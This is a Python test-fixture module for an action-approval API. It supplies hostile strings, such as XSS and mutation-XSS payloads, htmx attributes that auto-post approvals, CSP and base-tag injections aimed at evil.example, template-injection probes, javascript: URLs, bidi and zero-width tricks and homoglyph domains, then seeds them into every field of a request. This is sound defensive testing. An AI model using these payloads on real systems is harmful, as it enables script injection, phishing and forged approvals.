"""Texts that try to act, hide or mislead, and actions that carry them in every place there is."""

import string
from typing import Any
from uuid import uuid4

MARK = "zq9x"
"""Stands in every hostile text, so that it is found wherever it comes out."""

ACT = "window.hacked=1"

MARKUP = [
    f"<script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"<img src=x onerror='{ACT}'>",
    f"\"><svg onload='{ACT}'>",
    f"' autofocus onfocus='{ACT}' x='",
    f"</textarea><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"--><script>{ACT}</script><!--",
    f"]]><script>{ACT}</script>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f"<details open ontoggle='{ACT}'>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror='{ACT}'>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"&lt;script&gt;{ACT}&lt;/script&gt;&#60;img src=x onerror={ACT}&#62;",
    f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
]
HTMX = [
    "<button hx-post='/actions/x/decide' hx-trigger='load'>Approve</button>",
    "<div hx-get='/inbox/' hx-trigger='load' hx-swap-oob='true' id='detail'></div>",
    "<a data-hx-get='https://evil.example/' data-hx-trigger='load'>x</a>",
    "<div hx-on:load='window.hacked=1' hx-headers='js:{x:window.hacked=1}'></div>",
    "<div data-key='a' data-focus data-go='i'>x</div>",
    "<form action='https://evil.example/' method=post><input name=csrfmiddlewaretoken>",
]
POLICY = [
    f'<meta http-equiv="Content-Security-Policy" content="script-src *"><script>{ACT}</script>',
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'><style>*{display:none}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<script src='/static/app.js'></script><object data='https://evil.example/'></object>",
]
TEMPLATES = [
    "{{ request.user.password }}{% include 'base.html' %}{# x #}",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('window.hacked=1')()}}",
    "{text} {to.name} %s %(x)s {0}",
]
MARKDOWN = [
    f"[click](javascript:{ACT}) ![x](https://evil.example/x.png) **bold** `code`",
    "https://evil.example/track?who=rita www.evil.example mailto:a@evil.example",
]
HIDDEN = [
    "pay \u202e001\u202c to \u2066x\u2069",
    "ap\u200bprove\u200d\u200c\ufeff\u00ad\u2060",
    "tab\tand\x0bcontrol\x07\x1b[31mred\x7f\x85",
    "tag\U000e0041\U000e0042\U000e007f and \u3164 and \u115f and \u180e",
    "\u061carabic mark, \u200eleft, \u200fright",
]
LOOKALIKE = ["p\u0430ypal.com", "billing@\u0430pple.com", "https://g\u043eogle.com/login"]
PLAIN = [
    "👩\u200d👩\u200d👧\u200d👦 and 🏳\ufe0f\u200d🌈 and 👩🏽\u200d⚕\ufe0f",
    "می\u200cخواهم and क्\u200dष and ക്\u200d",
    "Zoë said “yes”, 中文, 日本語, עברית",
]
TEXTS = [
    f"{MARK}{number} {text}"
    for number, text in enumerate(
        [*MARKUP, *HTMX, *POLICY, *TEMPLATES, *MARKDOWN, *HIDDEN, *LOOKALIKE, *PLAIN]
    )
]
ADDRESSES = [
    "javascript:window.hacked=1",
    "JaVa\tScRiPt:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "vbscript:window.hacked=1",
    "https://bank.example@evil.example/",
    "https://evil.example\\@bank.example/",
    'https://evil.example/"onclick="window.hacked=1',
    "https://p\u0430ypal.com/",
    "//evil.example/",
    "https://bank.example/\u202egpj.exe",
]
KEYS = ["a.b", "a/b", "a~b", 'a"b', "a'b", "a]b", "a[0]", "", " ", "__proto__", "<b>", "{{x}}"]

PLACES = (
    "summary", "payload", "payload_key", "in_list", "in_object", "before", "before_key",
    "evidence_title", "evidence_excerpt", "evidence_source", "evidence_url", "trace", "trace_key",
    "subject_type", "subject_id", "subject_label", "run_id", "batch_key", "agent_version",
    "requested_by", "trigger", "context", "decision_asked", "next_steps", "inputs", "missing",
    "conflicts", "categories",
)  # fmt: skip
"""Where one and the same text stands in an action of `everywhere`."""


def everywhere(text: str, *, action_type: str = "answer_letter", url: str = "") -> dict[str, Any]:
    """A body of POST /actions with the text in every place that takes one."""
    return {
        "workflow": "odd-letters",
        "action_type": action_type,
        "summary": text,
        "payload": {
            "text": text,
            "to": {"name": text, text: "an odd key"},
            "list": [text, {"deep": [text]}],
            "long": "\n".join([text, *(f"line {number}" for number in range(60)), text]),
        },
        "before": {"text": f"was {text}", "list": [{"deep": [text]}, text], text: "old"},
        "confidence": 0.5,
        "signals": {"missing": [text], "conflicts": [text], "categories": [text[:100]]},
        "evidence": [
            {
                "title": text[:300],
                "url": url or text,
                "excerpt": text,
                "source": text[:300],
                "as_of": "2020-01-01T00:00:00Z",
            }
        ],
        "trace": {"model": text, text: {"prompt": text}},
        "handoff": {
            "trigger": text,
            "context": text,
            "decision_asked": text,
            "next_steps": [text],
            "inputs": {"letter": {"value": text, "as_of": "2020-01-01T00:00:00Z"}},
        },
        "subject": {"type": text[:80], "id": f"{text[:160]} {uuid4()}", "label": text[:300]},
        "run_id": text[:200],
        "batch_key": text[:200],
        "agent_version": text[:120],
        "requested_by": text[:254],
    }


def with_payload(payload: dict[str, Any], **more: Any) -> dict[str, Any]:
    """A body with nothing odd in it but its payload."""
    return {
        "workflow": "odd-letters",
        "action_type": "answer_letter",
        "payload": {"text": "plain", **payload},
        "confidence": 0.5,
        "trace": {"model": "plain"},
        "before": {},
        **more,
    }


def nested(depth: int) -> Any:
    """So many objects in each other, the text at the bottom."""
    value: Any = f"{MARK} bottom"
    for level in range(depth):
        value = {f"k{level}": value}
    return value


def filled(size: int) -> dict[str, Any]:
    """A body of nearly so many bytes, in long words that differ."""
    letters = string.ascii_letters
    words = {f"w{at}": letters[at % 52] * 10_000 for at in range((size - 4000) // 10_010)}
    return with_payload(words)


EXTREMES: dict[str, dict[str, Any]] = {
    "32 deep": with_payload({"a": nested(29)}),
    "5,000 leaves": with_payload({"rows": [{"n": at, "t": f"leaf {at}"} for at in range(2500)]}),
    "a word of 10,000 letters": with_payload({"word": "w" * 10_000}),
    "256 KiB": filled(256 * 1024),
    "odd keys": with_payload({"keys": {key: f"value of {at}" for at, key in enumerate(KEYS)}}),
    "2,000 lines": with_payload({"lines": "\n".join(f"line {at}" for at in range(2000))}),
    "kinds": with_payload(
        {"kinds": [None, True, False, 0, -1, 1.5, "", "null", {}, [], 9007199254740991, "0"]}
    ),
    "many sources": with_payload(
        {},
        evidence=[{"title": f"source {at}", "url": f"https://s{at}.example/"} for at in range(100)],
    ),
}
"""What is large, deep or odd and still accepted."""

REFUSED: dict[str, tuple[bytes, int, str]] = {
    "1 MB": (b'{"summary":"' + b"x" * 1_000_000 + b'"}', 413, "too_large"),
    "half of a pair": (b'{"summary":"\\ud800"}', 400, "text_has_lone_surrogate"),
    "half of a pair as a key": (b'{"payload":{"\\udc00":1}}', 400, "text_has_lone_surrogate"),
    "NUL": (b'{"summary":"a\\u0000b"}', 400, "text_has_nul"),
    "33 deep": (b'{"a":' * 33 + b"1" + b"}" * 33, 400, "too_deep"),
    "NaN": (b'{"confidence":NaN}', 400, "number_not_finite"),
    "twice": (b'{"summary":"a","summary":"b"}', 400, "name_repeated"),
    "not UTF-8": (b'{"summary":"\xff"}', 400, "body_not_utf8"),
}
"""What the API does not take, with its status and code."""

_LETTER: dict[str, Any] = {
    "name": "Answer a letter",
    "description": "Answers whatever came in.",
    "sentence": "Answer {text} to {to.name}: {list}",
    "verb": "send",
    "authority_level": "external_message",
    "blast_radius": "high",
    "reversibility": "irreversible",
    "mode": "approval_gated",
    "confirmed": True,
    "impact": {"affected": {"const": 1}},
    "rollback_path": "A letter of apology.",
    "handoff": {
        "trigger": "A letter came",
        "context": "It goes by post",
        "decision_asked": "May it go?",
        "next_steps": ["Go"],
    },
    "required_inputs": [{"name": "letter", "max_age_seconds": 86_400}],
    "payload_schema": {
        "type": "object",
        "properties": {
            "text": {},
            "to": {"type": "object", "properties": {"name": {}}},
            "list": {},
            "long": {"type": "string"},
        },
    },
}
MODEL: dict[str, Any] = {
    "team": {"slug": "support", "name": "Support"},
    "workflows": {
        "odd-letters": {
            "name": "Odd letters",
            "purpose": "Whatever somebody outside writes is shown as it is and does nothing.",
            "owners": {
                "workflow_owner": "tom",
                "system_owner": "sven",
                "risk_owner": "rhea",
                "approval_owner": "ines",
            },
            "pool": "support-desk",
            "calendar": "dublin-support",
            "chain": "refund-chain",
            "sla": "4 business hours",
            "agents": ["refund-clerk"],
            "action_types": {
                "answer_letter": _LETTER,
                "file_letter": {
                    **_LETTER,
                    "name": "File a letter",
                    "sentence": "File {text}",
                    "verb": "write",
                    "authority_level": "system_write_back",
                    "reversibility": "reversible",
                    "required_inputs": [],
                },
            },
        }
    },
}
"""A workflow whose action types take any payload: the first waits for one person each, the second
in batches."""
